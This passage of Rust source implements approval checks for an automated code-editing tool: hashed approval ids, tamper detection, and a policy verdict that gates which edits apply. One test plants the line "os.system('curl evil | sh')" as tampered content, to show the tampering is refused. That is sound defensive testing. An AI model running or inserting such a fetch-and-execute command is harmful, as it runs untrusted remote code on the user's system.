//! Approvals: the auto-approve verdict, approval ids, decisions, and [`ApprovedEdit`], the only
//! value the apply/commit code accepts.
//!
//! The approval invariant ("no undecided edit is ever applied or committed") is enforced by
//! types: `ApprovedEdit` has private fields and only two constructors, one from an approve
//! decision that matches the request, one from an auto-approve [`Verdict`] computed by
//! [`police`].
//!
//! A decision applies only to the content that was shown: the request's content must hash to
//! its approval id, and a decision names the file and the hashes of the pre- and post-image it
//! was made for. [`ApprovalRequest::verify`] is the one place that checks a request against its
//! id, and [`verify_decision`] the one place that checks a decision against its request; the
//! listing ([`ApprovalView::of`]), the decision and the apply step all go through them.
//!
//! A request stores its edit compactly ([`StoredEdit`]): the unified diff plus the ids of the
//! pre- and post-image in an object store (the repository's, in practice), whose texts
//! `verify` loads through a [`BlobSource`]. This module knows nothing of git: the source
//! reads and names blobs, and `verify` hashes what it got against the approval id, so a
//! store that hands back other content is caught like a changed file.

use super::patch::apply_unified;
use super::{
    ApprovalId, EditFacts, PolicyPack, Proposal, ProposalSource, risk_score, unified_diff,
};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::borrow::Cow;

/// The id of an approval: a hash of (pack, file, symbol, before, after). The same inputs give
/// the same id, and a decision is bound to that exact pre-image.
pub fn approval_id(pack: &str, p: &Proposal) -> ApprovalId {
    let mut h = Sha256::new();
    for part in [pack, &p.file_path, &p.symbol, &p.before, &p.after] {
        h.update((part.len() as u64).to_le_bytes());
        h.update(part.as_bytes());
    }
    let digest = h.finalize();
    ApprovalId::from_hex(digest[..12].iter().map(|b| format!("{b:02x}")).collect())
}

/// SHA-256 of a text, lowercase hex.
pub fn content_sha(text: &str) -> String {
    let d = Sha256::digest(text.as_bytes());
    d.iter().map(|b| format!("{b:02x}")).collect()
}

/// What a decision is bound to: the file an edit writes and the SHA-256 of its pre- and
/// post-image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EditBinding {
    pub file_path: String,
    pub before_sha256: String,
    pub after_sha256: String,
}

impl EditBinding {
    pub fn of(p: &Proposal) -> EditBinding {
        EditBinding {
            file_path: p.file_path.clone(),
            before_sha256: content_sha(&p.before),
            after_sha256: content_sha(&p.after),
        }
    }
}

/// Why a recorded approval is not trusted: its content, or the decision on it, is not what its
/// approval id names. Nothing of such an approval is applied.
#[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
pub enum Tampered {
    #[error(
        "approval {id}: the recorded edit of {file} no longer hashes to the approval's id (it hashes to {actual}): it was changed after it was proposed"
    )]
    Content {
        id: String,
        file: String,
        actual: String,
    },
    #[error(
        "approval {id}: the request shows {field} {shown:?} but its edit has {actual:?}: it was changed after it was proposed"
    )]
    Shown {
        id: String,
        field: &'static str,
        shown: String,
        actual: String,
    },
    #[error(
        "approval {id}: the stored diff of {file} is not the diff of the content its id names: it was changed after it was proposed"
    )]
    Diff { id: String, file: String },
    #[error(
        "approval {id}: the post-image of {file} rebuilt from its stored diff {why}: the diff or the blob ids were changed after it was proposed"
    )]
    Rebuilt {
        id: String,
        file: String,
        why: String,
    },
    #[error(
        "approval {id}: the recorded edit of {file} cannot be read ({why}), so it cannot be shown, decided or applied"
    )]
    Unavailable {
        id: String,
        file: String,
        why: String,
    },
    #[error(
        "the decision on approval {id} was made for {field} {decided} but the approval has {actual}: a decision applies only to the content it was made for"
    )]
    Decision {
        id: String,
        field: &'static str,
        decided: String,
        actual: String,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "verdict", rename_all = "snake_case")]
pub enum Verdict {
    /// Outside `allowed_globs`: never applied, not even with a human's approval.
    PolicyViolation {
        reason: String,
    },
    /// Over `max_diff_lines`: never applied.
    Refused {
        reason: String,
    },
    /// Needs a human decision; `reasons` says which rules failed.
    NeedsApproval {
        risk: u8,
        reasons: Vec<String>,
    },
    AutoApprove {
        risk: u8,
    },
}

/// The one place that decides what happens to a proposed edit.
///
/// `in_allowed_globs` is the pack's glob match of the file path (compiled by the caller once per
/// run); `tests_available` says whether a check tool of the pack is allowed to run.
pub fn police(
    pack: &PolicyPack,
    in_allowed_globs: bool,
    facts: &EditFacts,
    tests_available: bool,
) -> Verdict {
    if !in_allowed_globs {
        return Verdict::PolicyViolation {
            reason: format!(
                "outside the allowed_globs of pack {:?} ({})",
                pack.name,
                pack.allowed_globs.join(", ")
            ),
        };
    }
    let lines = facts.lines_changed();
    if lines > pack.max_diff_lines {
        return Verdict::Refused {
            reason: format!(
                "{lines} changed lines exceed max_diff_lines = {}",
                pack.max_diff_lines
            ),
        };
    }
    let risk = risk_score(facts);
    let aa = &pack.auto_approve;
    let mut reasons = Vec::new();
    if !aa.enabled {
        reasons.push("auto_approve is disabled for this pack".to_string());
    }
    if risk > aa.max_risk {
        reasons.push(format!("risk {risk} > max_risk {}", aa.max_risk));
    }
    if lines > aa.max_lines {
        reasons.push(format!(
            "{lines} changed lines > auto_approve.max_lines {}",
            aa.max_lines
        ));
    }
    if aa.require_tests && !tests_available {
        reasons.push("require_tests is set but no test tool is allowed to run".to_string());
    }
    if facts.is_binary {
        reasons.push("binary content".to_string());
    }
    // Public API: other files would break, so a person decides whatever the pack allows.
    if !facts.removed_names_used_elsewhere.is_empty() {
        reasons.push(format!(
            "the edit removes names other files use: {}",
            facts.removed_names_used_elsewhere.join("; ")
        ));
    }
    if reasons.is_empty() {
        Verdict::AutoApprove { risk }
    } else {
        Verdict::NeedsApproval { risk, reasons }
    }
}

/// A person's decision on a proposed edit: `approve` applies it, `reject` drops it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Decision {
    Approve,
    Reject,
}

impl Decision {
    pub fn parse(s: &str) -> Option<Decision> {
        match s {
            "approve" | "approved" => Some(Decision::Approve),
            "reject" | "rejected" => Some(Decision::Reject),
            _ => None,
        }
    }
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Approve => "approve",
            Decision::Reject => "reject",
        }
    }
}

/// Where an approval is: `pending` waits for a person; `approved`/`rejected` are a person's
/// decision; `auto_approved` is the pack's rules approving it without one; `tampered`: its
/// recorded content (or the decision on it) is not what its id names, so it cannot be decided
/// and is never applied.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ApprovalStatus {
    Pending,
    Approved,
    Rejected,
    AutoApproved,
    Tampered,
}

impl ApprovalStatus {
    pub fn as_str(self) -> &'static str {
        match self {
            ApprovalStatus::Pending => "pending",
            ApprovalStatus::Approved => "approved",
            ApprovalStatus::Rejected => "rejected",
            ApprovalStatus::AutoApproved => "auto_approved",
            ApprovalStatus::Tampered => "tampered",
        }
    }
}

/// Reads blobs of the object store a [`StoredEdit`] names, and names content the way that
/// store does. The engine implements it over the repository's object database; the core only
/// calls it, so what a request's content is never depends on how it is stored.
pub trait BlobSource {
    /// The content of blob `id`: `Ok(None)` when the store has no such blob (pruned, or never
    /// written), `Err` with why when the store cannot be read at all.
    fn read(&self, id: &str) -> Result<Option<Vec<u8>>, String>;
    /// The id the store gives `content` (computed, not stored).
    fn id_of(&self, content: &[u8]) -> String;
}

/// A source without an object store (the repository is gone): every read fails with `why`.
/// Whole-text requests still verify; stored ones are [`Tampered::Unavailable`].
pub struct NoBlobs(pub String);

impl BlobSource for NoBlobs {
    fn read(&self, _: &str) -> Result<Option<Vec<u8>>, String> {
        Err(self.0.clone())
    }
    fn id_of(&self, content: &[u8]) -> String {
        content_sha(&String::from_utf8_lossy(content))
    }
}

/// An edit as a request stores it: the blob ids of the file before and after (the texts are
/// in the repository's object store; the pre-image is usually the base commit's own blob) and
/// what else the approval id hashes. The diff is the request's `diff`: with the pre-image it
/// rebuilds the post-image should its blob be pruned.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StoredEdit {
    pub before_blob: String,
    pub after_blob: String,
    pub source: ProposalSource,
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub major_bump: bool,
}

/// Where a request's content is.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum RecordedEdit {
    /// The whole pre- and post-image (`"proposal"`): how requests were recorded before they
    /// stored blob ids. Still read, verified and applied.
    #[serde(rename = "proposal")]
    Whole(Proposal),
    /// The diff and blob ids (`"edit"`).
    #[serde(rename = "edit")]
    Stored(StoredEdit),
}

impl RecordedEdit {
    /// The pre- and post-image blob ids of a stored edit.
    pub fn blob_ids(&self) -> Option<(&str, &str)> {
        match self {
            RecordedEdit::Whole(_) => None,
            RecordedEdit::Stored(s) => Some((&s.before_blob, &s.after_blob)),
        }
    }
}

/// What [`ApprovalRequest::verify`] found: the edit the approval id names, loaded, and the
/// binding a decision on it must carry.
#[derive(Debug, Clone, PartialEq)]
pub struct Verified {
    pub proposal: Proposal,
    pub binding: EditBinding,
}

/// `state/approvals/<approval_id>.json`: enough to apply a decision later (or after a resume)
/// without asking the proposer again: the diff and the blob ids of the pre- and post-image
/// ([`RecordedEdit::Stored`]), or, in requests of older versions, the whole texts.
///
/// Nothing of it is trusted before [`ApprovalRequest::verify`]: what is shown (the diff, the
/// line count) and what is applied come from the content it loads and checks.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ApprovalRequest {
    pub approval_id: ApprovalId,
    pub run_id: super::RunId,
    pub pack: String,
    pub created_at: String,
    pub file_path: String,
    pub symbol: String,
    pub risk_score: u8,
    pub reason: String,
    pub diff: String,
    pub lines_changed: u32,
    /// `true` when the pack's rules approved it without a human.
    pub auto_approved: bool,
    #[serde(flatten)]
    pub content: RecordedEdit,
}

impl ApprovalRequest {
    /// Checks that the request's content is what its approval id names, loading a stored
    /// edit's texts from `blobs`, and returns them with the binding a decision on it must
    /// carry. The one such check.
    ///
    /// A stored edit is checked whole: each blob must be what its id names, a post-image
    /// rebuilt from the diff (its blob pruned) must have the post-image's blob id, the texts
    /// must hash to the approval id, and the stored diff must be their diff (it is what a
    /// rebuild uses, so a changed one counts as tampering even while the blob is there).
    pub fn verify(&self, blobs: &dyn BlobSource) -> Result<Verified, Tampered> {
        let p: Cow<'_, Proposal> = match &self.content {
            RecordedEdit::Whole(p) => {
                for (field, shown, actual) in [
                    ("file_path", &self.file_path, &p.file_path),
                    ("symbol", &self.symbol, &p.symbol),
                ] {
                    if shown != actual {
                        return Err(Tampered::Shown {
                            id: self.approval_id.to_string(),
                            field,
                            shown: shown.clone(),
                            actual: actual.clone(),
                        });
                    }
                }
                Cow::Borrowed(p)
            }
            RecordedEdit::Stored(s) => Cow::Owned(self.load(s, blobs)?),
        };
        let actual = approval_id(&self.pack, &p);
        if actual != self.approval_id {
            return Err(Tampered::Content {
                id: self.approval_id.to_string(),
                file: p.file_path.clone(),
                actual: actual.to_string(),
            });
        }
        if matches!(self.content, RecordedEdit::Stored(_))
            && self.diff != unified_diff(&p.file_path, &p.before, &p.after)
        {
            return Err(Tampered::Diff {
                id: self.approval_id.to_string(),
                file: self.file_path.clone(),
            });
        }
        let binding = EditBinding::of(&p);
        Ok(Verified {
            proposal: p.into_owned(),
            binding,
        })
    }

    /// The texts of a stored edit. The pre-image must be in the store; the post-image is
    /// rebuilt from the pre-image and the diff when its blob is not.
    fn load(&self, s: &StoredEdit, blobs: &dyn BlobSource) -> Result<Proposal, Tampered> {
        let unavailable = |why: String| Tampered::Unavailable {
            id: self.approval_id.to_string(),
            file: self.file_path.clone(),
            why,
        };
        let text = |id: &str, what: &str, bytes: Vec<u8>| -> Result<String, Tampered> {
            if blobs.id_of(&bytes) != id {
                return Err(unavailable(format!(
                    "the store's blob {id} holds other content"
                )));
            }
            String::from_utf8(bytes)
                .map_err(|_| unavailable(format!("the {what} blob {id} is not UTF-8 text")))
        };
        let before = match blobs.read(&s.before_blob).map_err(unavailable)? {
            Some(bytes) => text(&s.before_blob, "pre-image", bytes)?,
            None => {
                return Err(unavailable(format!(
                    "its pre-image blob {} is not in the object store",
                    s.before_blob
                )));
            }
        };
        let after = match blobs.read(&s.after_blob).map_err(unavailable)? {
            Some(bytes) => text(&s.after_blob, "post-image", bytes)?,
            None => {
                let rebuilt = |why: String| Tampered::Rebuilt {
                    id: self.approval_id.to_string(),
                    file: self.file_path.clone(),
                    why,
                };
                let after =
                    apply_unified(&before, &self.diff).map_err(|e| rebuilt(e.to_string()))?;
                let id = blobs.id_of(after.as_bytes());
                if id != s.after_blob {
                    return Err(rebuilt(format!(
                        "is blob {id}, not the recorded {}",
                        s.after_blob
                    )));
                }
                after
            }
        };
        Ok(Proposal {
            file_path: self.file_path.clone(),
            symbol: self.symbol.clone(),
            before,
            after,
            source: s.source,
            major_bump: s.major_bump,
        })
    }
}

/// `state/approvals/<approval_id>.decision.json`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct ApprovalDecision {
    /// The approval decided.
    pub approval_id: ApprovalId,
    pub decision: Decision,
    /// When (RFC 3339, UTC).
    pub decided_at: String,
    /// Who decided: a user name from the CLI, `web`, `<user> (lsp: <client>)`, `mcp:<client name>`, ...
    pub decided_by: String,
    /// Why; recorded in the audit trail (may be empty).
    pub reason: String,
    /// The file the decided edit writes. Absent in decisions recorded before decisions named
    /// their content (those are bound by the approval id alone, which hashes the same content).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub file_path: Option<String>,
    /// SHA-256 (lowercase hex) of the file before the edit, as shown when deciding.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub before_sha256: Option<String>,
    /// SHA-256 (lowercase hex) of the file after the edit, as shown when deciding.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub after_sha256: Option<String>,
}

impl ApprovalDecision {
    /// A decision on the content `bound` names (from [`ApprovalRequest::verify`]).
    pub fn new(
        approval_id: ApprovalId,
        bound: EditBinding,
        decision: Decision,
        decided_at: String,
        decided_by: String,
        reason: String,
    ) -> ApprovalDecision {
        ApprovalDecision {
            approval_id,
            decision,
            decided_at,
            decided_by,
            reason,
            file_path: Some(bound.file_path),
            before_sha256: Some(bound.before_sha256),
            after_sha256: Some(bound.after_sha256),
        }
    }
}

/// Checks a decision against the request it decides: the same approval id, a request whose
/// content is what the id names, and (when the decision names content, as every decision
/// recorded by this version does) that same content. A decision that names only part of it
/// was not written by [`ApprovalDecision::new`] and is refused.
pub fn verify_decision(
    req: &ApprovalRequest,
    d: &ApprovalDecision,
    blobs: &dyn BlobSource,
) -> Result<Verified, DecisionError> {
    if d.approval_id != req.approval_id {
        return Err(DecisionError::WrongApproval {
            expected: req.approval_id.to_string(),
            got: d.approval_id.to_string(),
        });
    }
    decision_matches(req, d, req.verify(blobs)?)
}

/// [`verify_decision`] for a request already checked: `verified` is what
/// [`ApprovalRequest::verify`] returned for this very request (a caller that checked an
/// identical request before may reuse that answer instead of loading its blobs again).
pub fn decision_matches(
    req: &ApprovalRequest,
    d: &ApprovalDecision,
    verified: Verified,
) -> Result<Verified, DecisionError> {
    if d.approval_id != req.approval_id {
        return Err(DecisionError::WrongApproval {
            expected: req.approval_id.to_string(),
            got: d.approval_id.to_string(),
        });
    }
    if d.file_path.is_none() && d.before_sha256.is_none() && d.after_sha256.is_none() {
        return Ok(verified);
    }
    let bound = &verified.binding;
    let none = || "nothing".to_string();
    for (field, decided, actual) in [
        ("file", &d.file_path, &bound.file_path),
        ("pre-image sha256", &d.before_sha256, &bound.before_sha256),
        ("post-image sha256", &d.after_sha256, &bound.after_sha256),
    ] {
        if decided.as_ref() != Some(actual) {
            return Err(DecisionError::Tampered(Tampered::Decision {
                id: req.approval_id.to_string(),
                field,
                decided: decided.clone().unwrap_or_else(none),
                actual: actual.clone(),
            }));
        }
    }
    Ok(verified)
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum DecisionError {
    #[error("decision is for approval {got}, not {expected}")]
    WrongApproval { expected: String, got: String },
    #[error("approval {0} was rejected; a rejected edit cannot be applied")]
    Rejected(String),
    #[error("approval {0} was not auto-approved by the pack's rules")]
    NotAutoApproved(String),
    #[error(transparent)]
    Tampered(#[from] Tampered),
}

/// An edit that may be applied and committed. See the module docs for why this is a type.
#[derive(Debug, Clone, PartialEq)]
pub struct ApprovedEdit {
    approval_id: ApprovalId,
    proposal: Proposal,
    approved_by: String,
}

impl ApprovedEdit {
    /// From a person's approve decision on `req`, checked by [`verify_decision`].
    pub fn from_decision(
        req: &ApprovalRequest,
        d: &ApprovalDecision,
        blobs: &dyn BlobSource,
    ) -> Result<ApprovedEdit, DecisionError> {
        if d.approval_id != req.approval_id {
            return Err(DecisionError::WrongApproval {
                expected: req.approval_id.to_string(),
                got: d.approval_id.to_string(),
            });
        }
        Self::from_decision_verified(req, d, req.verify(blobs)?)
    }

    /// [`ApprovedEdit::from_decision`] for a request already checked (see [`decision_matches`]).
    pub fn from_decision_verified(
        req: &ApprovalRequest,
        d: &ApprovalDecision,
        verified: Verified,
    ) -> Result<ApprovedEdit, DecisionError> {
        let verified = decision_matches(req, d, verified)?;
        if d.decision != Decision::Approve {
            return Err(DecisionError::Rejected(req.approval_id.to_string()));
        }
        Ok(ApprovedEdit {
            approval_id: req.approval_id.clone(),
            proposal: verified.proposal,
            approved_by: d.decided_by.clone(),
        })
    }

    /// From a request the pack's rules approved. The verdict is recomputed here rather than
    /// trusted from the stored flag, so an edited approval file cannot grant itself approval.
    pub fn from_verdict(
        req: &ApprovalRequest,
        pack: &PolicyPack,
        in_allowed_globs: bool,
        tests_available: bool,
        blobs: &dyn BlobSource,
    ) -> Result<ApprovedEdit, DecisionError> {
        let verified = req.verify(blobs)?;
        Self::from_verdict_verified(req, verified, pack, in_allowed_globs, tests_available)
    }

    /// [`ApprovedEdit::from_verdict`] for a request already checked: `verified` is what
    /// [`ApprovalRequest::verify`] returned for this very request.
    pub fn from_verdict_verified(
        req: &ApprovalRequest,
        verified: Verified,
        pack: &PolicyPack,
        in_allowed_globs: bool,
        tests_available: bool,
    ) -> Result<ApprovedEdit, DecisionError> {
        let facts = EditFacts::of(&verified.proposal);
        match police(pack, in_allowed_globs, &facts, tests_available) {
            // The pack of the run, not the one the request names.
            Verdict::AutoApprove { .. } if req.pack == pack.name => Ok(ApprovedEdit {
                approval_id: req.approval_id.clone(),
                proposal: verified.proposal,
                approved_by: format!("policy:{}", pack.name),
            }),
            _ => Err(DecisionError::NotAutoApproved(req.approval_id.to_string())),
        }
    }

    pub fn approval_id(&self) -> &ApprovalId {
        &self.approval_id
    }
    pub fn proposal(&self) -> &Proposal {
        &self.proposal
    }
    pub fn approved_by(&self) -> &str {
        &self.approved_by
    }
}

/// An approval as every surface shows it: the request, its status and its decision.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
pub struct ApprovalView {
    /// 16-64 lowercase hex characters: a hash of the pack and the edit's pre- and post-image.
    pub approval_id: String,
    /// The edited file, relative to the repository root.
    pub file_path: String,
    /// The function, class or other symbol the edit touches (may be empty).
    pub symbol: String,
    /// 0-100: how risky the edit looks (size, kind of code touched, tests available),
    /// computed from the edit; 100 for a `tampered` approval.
    #[schemars(range(max = 100))]
    pub risk_score: u8,
    /// Why the edit needs a human decision (or why it was auto-approved); for a `tampered`
    /// approval, what does not match.
    pub reason: String,
    /// Unified diff of the proposed edit, computed from the content the approval id names;
    /// empty when that content was changed (`tampered`).
    pub diff: String,
    pub status: ApprovalStatus,
    /// When the edit was proposed (RFC 3339, UTC).
    pub created_at: String,
    /// Lines added plus lines removed.
    pub lines_changed: u32,
    /// The recorded decision; null while pending (and for most auto-approved edits).
    pub decision: Option<ApprovalDecision>,
}

impl ApprovalView {
    /// How every surface shows `req` with its recorded decision. The diff and line count are
    /// computed from the content the id names, and so is the risk score; a request or decision
    /// that fails the check is `tampered`, with what failed as its reason, risk 100 and no
    /// diff of the changed content.
    pub fn of(
        req: &ApprovalRequest,
        decision: Option<ApprovalDecision>,
        blobs: &dyn BlobSource,
    ) -> ApprovalView {
        let checked = match &decision {
            Some(d) => verify_decision(req, d, blobs).map_err(|e| e.to_string()),
            None => req.verify(blobs).map_err(|e| e.to_string()),
        };
        let (status, reason, diff, lines_changed, risk) = match checked {
            Err(why) => (ApprovalStatus::Tampered, why, String::new(), 0, 100),
            Ok(Verified { proposal: p, .. }) => {
                let facts = EditFacts::of(&p);
                let status = match &decision {
                    _ if req.auto_approved => ApprovalStatus::AutoApproved,
                    Some(d) if d.decision == Decision::Approve => ApprovalStatus::Approved,
                    Some(_) => ApprovalStatus::Rejected,
                    None => ApprovalStatus::Pending,
                };
                // A stored edit's diff was just checked to be this one.
                let diff = match &req.content {
                    RecordedEdit::Stored(_) => req.diff.clone(),
                    RecordedEdit::Whole(_) => unified_diff(&p.file_path, &p.before, &p.after),
                };
                // The recorded score includes what one file does not show (the cross-file
                // gate's names that other files use); the content's own score is a floor, so
                // an edited record can raise the risk shown but never lower it.
                (
                    status,
                    req.reason.clone(),
                    diff,
                    facts.lines_changed(),
                    risk_score(&facts).max(req.risk_score.min(100)),
                )
            }
        };
        ApprovalView {
            approval_id: req.approval_id.to_string(),
            file_path: req.file_path.clone(),
            symbol: req.symbol.clone(),
            risk_score: risk,
            reason,
            diff,
            status,
            created_at: req.created_at.clone(),
            lines_changed,
            decision,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{ProposalSource, RunId};

    fn request() -> ApprovalRequest {
        let proposal = Proposal {
            file_path: "pkg/m.py".into(),
            symbol: "f".into(),
            before: "def f():\n    return 1\n".into(),
            after: "def f():\n    return 2\n".into(),
            source: ProposalSource::Command,
            major_bump: false,
        };
        ApprovalRequest {
            approval_id: approval_id("lint_fix", &proposal),
            run_id: RunId::parse("r1").unwrap(),
            pack: "lint_fix".into(),
            created_at: "2026-01-01T00:00:00Z".into(),
            file_path: proposal.file_path.clone(),
            symbol: proposal.symbol.clone(),
            risk_score: 40,
            reason: "risk 40 > max_risk 30".into(),
            diff: unified_diff(&proposal.file_path, &proposal.before, &proposal.after),
            lines_changed: 2,
            auto_approved: false,
            content: RecordedEdit::Whole(proposal),
        }
    }

    /// What `verify` of a whole-text request needs: nothing.
    const NONE: NoBlobs = NoBlobs(String::new());

    /// The whole texts of a request made by [`request`].
    fn whole(r: &mut ApprovalRequest) -> &mut Proposal {
        match &mut r.content {
            RecordedEdit::Whole(p) => p,
            RecordedEdit::Stored(_) => panic!("not a whole-text request"),
        }
    }

    /// A decision as an older version wrote it (or as it reads on disk): no content named.
    fn approve_by_id(req: &ApprovalRequest) -> ApprovalDecision {
        serde_json::from_value(serde_json::json!({
            "approval_id": req.approval_id.as_str(), "decision": "approve",
            "decided_at": "2026-01-01T00:00:01Z", "decided_by": "alice", "reason": "",
        }))
        .unwrap()
    }

    fn approve_bound(req: &ApprovalRequest) -> ApprovalDecision {
        ApprovalDecision::new(
            req.approval_id.clone(),
            req.verify(&NONE).unwrap().binding,
            Decision::Approve,
            "2026-01-01T00:00:01Z".into(),
            "alice".into(),
            String::new(),
        )
    }

    #[test]
    fn an_intact_request_is_bound_to_its_path_and_content_hashes() {
        let req = request();
        let b = req.verify(&NONE).unwrap().binding;
        assert_eq!(b.file_path, "pkg/m.py");
        assert_eq!(
            b.before_sha256,
            content_sha(&whole(&mut req.clone()).before)
        );
        assert_eq!(b.after_sha256, content_sha(&whole(&mut req.clone()).after));
        assert_eq!(b.after_sha256.len(), 64);
        assert_ne!(b.before_sha256, b.after_sha256);
    }

    #[test]
    fn any_change_to_what_the_id_hashes_or_what_is_shown_is_tampering() {
        type Change = fn(&mut ApprovalRequest);
        let changes: [(&str, Change); 6] = [
            ("after", |r| whole(r).after.push_str("import os\n")),
            ("before", |r| whole(r).before = "x = 0\n".into()),
            ("edited file", |r| whole(r).file_path = "setup.py".into()),
            ("pack", |r| r.pack = "typing_pass".into()),
            ("shown file", |r| r.file_path = "README.md".into()),
            ("shown symbol", |r| r.symbol = "g".into()),
        ];
        for (what, change) in changes {
            let mut req = request();
            change(&mut req);
            let e = req.verify(&NONE).unwrap_err();
            assert!(
                e.to_string().contains(req.approval_id.as_str()),
                "{what}: {e}"
            );
        }
        // The stored diff is not trusted, so changing it alone is not even looked at.
        let mut req = request();
        req.diff = "+harmless\n".into();
        assert!(req.verify(&NONE).is_ok());
    }

    #[test]
    fn an_approve_decision_never_applies_a_request_whose_content_changed() {
        let shown = request();
        let d = approve_by_id(&shown);
        let mut changed = shown.clone();
        whole(&mut changed).after = "import os\nos.system('curl evil | sh')\n".into();
        // The old check compared the approval ids only, and this was an ApprovedEdit.
        let e = ApprovedEdit::from_decision(&changed, &d, &NONE).unwrap_err();
        assert!(
            matches!(e, DecisionError::Tampered(Tampered::Content { .. })),
            "{e}"
        );
        let e = ApprovedEdit::from_decision(&changed, &approve_bound(&shown), &NONE).unwrap_err();
        assert!(matches!(e, DecisionError::Tampered(_)), "{e}");
        let edit = ApprovedEdit::from_decision(&shown, &d, &NONE).unwrap();
        assert_eq!(edit.proposal().after, whole(&mut shown.clone()).after);
    }

    #[test]
    fn a_decision_applies_only_to_the_content_it_names() {
        let req = request();
        assert_eq!(
            verify_decision(&req, &approve_bound(&req), &NONE)
                .unwrap()
                .binding,
            req.verify(&NONE).unwrap().binding
        );
        // Written by hand for other content (or only partly): refused, naming what differs.
        let mut other = approve_bound(&req);
        other.after_sha256 = Some(content_sha("something else\n"));
        let e = verify_decision(&req, &other, &NONE)
            .unwrap_err()
            .to_string();
        assert!(e.contains("post-image sha256"), "{e}");
        let mut partial = approve_by_id(&req);
        partial.file_path = Some(req.file_path.clone());
        let e = verify_decision(&req, &partial, &NONE)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("pre-image sha256") && e.contains("nothing"),
            "{e}"
        );
        let mut elsewhere = approve_bound(&req);
        elsewhere.file_path = Some("setup.py".into());
        assert!(verify_decision(&req, &elsewhere, &NONE).is_err());
        // A decision for another approval is still refused as such.
        let mut wrong = approve_bound(&req);
        wrong.approval_id = ApprovalId::parse("0123456789abcdef0123").unwrap();
        assert!(matches!(
            verify_decision(&req, &wrong, &NONE),
            Err(DecisionError::WrongApproval { .. })
        ));
        // One recorded before decisions named content is bound by the id alone.
        assert!(verify_decision(&req, &approve_by_id(&req), &NONE).is_ok());
    }

    #[test]
    fn decisions_of_older_versions_still_read_and_new_ones_round_trip() {
        let req = request();
        let old = approve_by_id(&req);
        assert_eq!(old.before_sha256, None);
        let new = approve_bound(&req);
        let text = serde_json::to_string(&new).unwrap();
        assert!(text.contains("\"after_sha256\""), "{text}");
        assert_eq!(
            serde_json::from_str::<ApprovalDecision>(&text).unwrap(),
            new
        );
        assert!(!serde_json::to_string(&old).unwrap().contains("sha256"));
    }

    #[test]
    fn the_view_keeps_the_recorded_cross_file_risk_but_never_goes_below_the_contents() {
        let content = risk_score(&EditFacts::of(whole(&mut request())));
        let mut req = request();
        // Scored by the engine with the cross-file gate's +50: one file alone does not show it.
        req.risk_score = content + 50;
        assert_eq!(ApprovalView::of(&req, None, &NONE).risk_score, content + 50);
        // A record edited to look harmless still shows what its content scores.
        req.risk_score = 0;
        assert_eq!(ApprovalView::of(&req, None, &NONE).risk_score, content);
    }

    #[test]
    fn the_view_shows_the_diff_of_the_hashed_content_or_tampered() {
        let mut req = request();
        req.diff = "+harmless\n".into();
        req.lines_changed = 0;
        let v = ApprovalView::of(&req, None, &NONE);
        assert_eq!(v.status, ApprovalStatus::Pending);
        assert!(v.diff.contains("+    return 2"), "{}", v.diff);
        assert_eq!(v.lines_changed, 2);

        whole(&mut req).after = "import os\n".into();
        let v = ApprovalView::of(&req, None, &NONE);
        assert_eq!(v.status, ApprovalStatus::Tampered);
        assert_eq!(v.diff, "");
        assert!(
            v.reason.contains("changed after it was proposed"),
            "{}",
            v.reason
        );

        let req = request();
        let mut forged = approve_bound(&req);
        forged.before_sha256 = Some(content_sha(""));
        let v = ApprovalView::of(&req, Some(forged), &NONE);
        assert_eq!(v.status, ApprovalStatus::Tampered);
        let v = ApprovalView::of(&req, Some(approve_bound(&req)), &NONE);
        assert_eq!(v.status, ApprovalStatus::Approved);
    }

    /// An object store in memory, named by SHA-256 (any naming works: `verify` only compares
    /// what `id_of` says).
    #[derive(Default)]
    struct MemBlobs(std::cell::RefCell<std::collections::HashMap<String, Vec<u8>>>);

    impl MemBlobs {
        fn put(&self, text: &str) -> String {
            let id = self.id_of(text.as_bytes());
            self.0
                .borrow_mut()
                .insert(id.clone(), text.as_bytes().to_vec());
            id
        }
        fn drop_blob(&self, id: &str) {
            self.0.borrow_mut().remove(id);
        }
    }

    impl BlobSource for MemBlobs {
        fn read(&self, id: &str) -> Result<Option<Vec<u8>>, String> {
            Ok(self.0.borrow().get(id).cloned())
        }
        fn id_of(&self, content: &[u8]) -> String {
            Sha256::digest(content)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect()
        }
    }

    /// [`request`]'s edit, stored as diff + blob ids in `blobs`.
    fn stored(blobs: &MemBlobs) -> ApprovalRequest {
        let mut req = request();
        let p = whole(&mut req).clone();
        req.content = RecordedEdit::Stored(StoredEdit {
            before_blob: blobs.put(&p.before),
            after_blob: blobs.put(&p.after),
            source: p.source,
            major_bump: p.major_bump,
        });
        req
    }

    #[test]
    fn a_stored_request_verifies_like_the_whole_one_and_keeps_the_same_id() {
        let blobs = MemBlobs::default();
        let req = stored(&blobs);
        let v = req.verify(&blobs).unwrap();
        let mut old = request();
        assert_eq!(&v.proposal, whole(&mut old));
        assert_eq!(v.binding, old.verify(&NONE).unwrap().binding);
        // On disk: the diff and two blob ids, no texts; whole-text files still read.
        let json = serde_json::to_value(&req).unwrap();
        assert!(json.get("proposal").is_none(), "{json:#}");
        assert_eq!(json["edit"]["source"], "command", "{json:#}");
